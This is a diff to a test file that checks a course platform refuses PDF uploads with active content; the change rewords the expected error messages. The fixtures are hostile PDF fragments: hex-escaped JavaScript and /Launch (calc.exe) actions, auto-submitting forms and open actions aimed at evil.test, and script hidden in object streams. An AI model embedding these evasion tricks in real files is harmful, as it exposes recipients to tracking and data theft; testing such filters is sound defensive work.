@@ -60,37 +60,37 @@ const upload = (bytes: Uint8Array, filename = "handout.pdf") =>
 async function refusedFor(bytes: Uint8Array, ...phrases: string[]): Promise<void> {
   const error = await alice.fail("upload_asset", { courseId, filename: "handout.pdf", mediaType: "application/pdf", dataBase64: Buffer.from(bytes).toString("base64") });
   expect(error.code).toBe("invalid_arguments");
-  expect(error.message).toStartWith("dataBase64: is refused: it is a PDF that does more than display:");
+  expect(error.message).toStartWith("dataBase64: is refused: it is a PDF with active content (/");
   for (const phrase of phrases) expect(error.message).toContain(phrase);
 }
 
 describe("the five bypasses are refused", () => {
   test("script named with hex escapes (/J#61vaScript) is read as /JavaScript", async () => {
-    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>"], ["<< /Type /Annot /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"]]), "script (/JavaScript)");
+    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>"], ["<< /Type /Annot /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"]]), "(/JavaScript): it holds script");
   });
 
   test("a launch action named with hex escapes (/L#61unch) is read as /Launch", async () => {
-    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>"], ["<< /Type /Annot /A << /S /L#61unch /F (calc.exe) >> >>"]]), "launches a program (/Launch)");
+    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>"], ["<< /Type /Annot /A << /S /L#61unch /F (calc.exe) >> >>"]]), "(/Launch): it holds an action that launches a program");
   });
 
   test("/AA with /SubmitForm (a form that sends itself when the page opens)", async () => {
-    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /AA << /O << /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> >> >> >>"]]), "(/AA)");
-    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [<< /A << /S /Submit#46orm /F (https://evil.test) >> >>] >>"]]), "(/SubmitForm)");
+    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /AA << /O << /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> >> >> >>"]]), "(/AA): it holds actions that run on their own");
+    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [<< /A << /S /Submit#46orm /F (https://evil.test) >> >>] >>"]]), "(/SubmitForm): it holds a form that sends data");
   });
 
   test("an /OpenAction that opens a web address (tracking) is refused, direct or by reference", async () => {
-    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.test/track) >> >>"], [pages], [page]]), "(/OpenAction /URI)");
-    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>"], [pages], [page], ["<< /S /#55RI /URI (https://evil.test/track) >>"]]), "(/OpenAction /URI)");
+    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.test/track) >> >>"], [pages], [page]]), "(/OpenAction /URI): it runs an action as it opens");
+    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>"], [pages], [page], ["<< /S /#55RI /URI (https://evil.test/track) >>"]]), "(/OpenAction /URI): it runs an action as it opens");
   });
 
   test("script inside a compressed object stream is found, even with /ObjStm spelled with escapes", async () => {
     const hidden = objectStream({ 5: "<< /S /JavaScript /JS (app.alert(1)) >>" }, "/Obj#53tm");
-    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"], [pages], [page], hidden]), "script (/JavaScript) (inside a compressed object stream)");
+    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"], [pages], [page], hidden]), "(/JavaScript): it holds script, inside a compressed object stream");
   });
 
   test("an /OpenAction to an object inside an object stream is resolved and judged", async () => {
     const hidden = objectStream({ 5: "<< /S /URI /URI (https://evil.test/track) >>" });
-    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"], [pages], [page], hidden]), "(/OpenAction /URI)");
+    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"], [pages], [page], hidden]), "(/OpenAction /URI): it runs an action as it opens");
   });
 });
 
@@ -101,7 +101,7 @@ describe("bounded work", () => {
     expect(answeredWhilePending).toBeGreaterThan(0);
     if (!outcome.ok) throw outcome.error;
     expect(outcome.value.isError).toBe(true);
-    expect(JSON.stringify(outcome.value.content)).toContain("inflate to more than 1000:1, more than can be checked");
+    expect(JSON.stringify(outcome.value.content)).toContain("(/ObjStm): its object streams inflate to more than 1000:1, more than can be checked");
   }, 120_000);
 
   test("a 9 MB PDF with escaped script at its very end is scanned while health answers", async () => {
@@ -112,7 +112,7 @@ describe("bounded work", () => {
     const { outcome, answeredWhilePending } = await probeHealthWhile(service.url, upload(large));
     expect(answeredWhilePending).toBeGreaterThan(0);
     if (!outcome.ok) throw outcome.error;
-    expect(JSON.stringify(outcome.value.content)).toContain("script (/JavaScript)");
+    expect(JSON.stringify(outcome.value.content)).toContain("active content (/JavaScript): it holds script");
   }, 120_000);
 });
 
